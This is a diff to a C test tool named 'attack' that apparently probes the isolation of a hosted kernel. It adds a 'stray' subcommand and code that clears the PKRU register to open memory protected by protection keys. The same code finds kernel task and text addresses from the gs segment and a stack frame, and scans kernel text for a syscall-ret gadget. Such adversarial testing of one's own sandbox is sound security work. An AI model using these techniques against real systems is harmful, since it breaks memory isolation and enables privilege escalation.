@@ -10,12 +10,14 @@
 //     attack close                 every descriptor closed
 //     attack bomb COUNT            host processes that the kernel knows nothing of
 //     attack memory ...            attack_memory.c
+//     attack stray ...             attack_stray.c
 //     attack broker ...            attack_broker.c
 //     attack network ...           attack_network.c
 #define _GNU_SOURCE
 #include "attack.h"
 
 #include <arpa/inet.h>
+#include <cpuid.h>
 #include <errno.h>
 #include <linux/fcntl.h>
 #include <netinet/in.h>
@@ -34,7 +36,8 @@
 #include <sys/un.h>
 #include <unistd.h>
 
-#define SCAN_BYTES (256u << 10)
+#define SCAN_BYTES  (256u << 10)
+#define FRAME_BYTES 168
 
 struct kernel_places places;
 
@@ -56,11 +59,23 @@ static uintptr_t find_in_text(const char *bytes, size_t size)
 	return (uintptr_t)found;
 }
 
-// struct port_task (port/hosted/task.h): its own address, and where rewritten call sites jump.
-static void find_kernel(void)
+// PKRU says what is closed until the next return from the kernel.
+static void open_memory(void)
 {
+	unsigned a, b, c = 0, d;
+
+	if (__get_cpuid_count(7, 0, &a, &b, &c, &d) && (c & bit_OSPKE))
+		__asm__ volatile("wrpkru" : : "a"(0), "c"(0), "d"(0) : "memory");
+}
+
+// struct port_task (port/hosted/task.h) and its own address; below it the frame, an empty word, and where the kernel's first
+// function on this stack has returned to.
+void attack_find_kernel(void)
+{
+	open_memory();
 	places.task = at_gs(16);
-	places.text = at_gs(40);
+	places.current = at_gs(0);
+	places.text = ((const uint64_t *)(places.task - FRAME_BYTES))[-2];
 	places.gadget = find_in_text("\x0f\x05\xc3", 3);
 	if (!places.gadget) {
 		fprintf(stderr, "no syscall instruction in kernel text\n");
@@ -240,7 +255,9 @@ int main(int argc, char **argv)
 {
 	const char *what = argc > 1 ? argv[1] : "";
 
-	find_kernel();
+	if (strcmp(what, "stray") == 0)
+		return attack_stray(argc - 2, argv + 2);
+	attack_find_kernel();
 	if (strcmp(what, "raw") == 0 && argc > 2)
 		return raw(argc - 2, argv + 2);
 	if (strcmp(what, "int80") == 0)
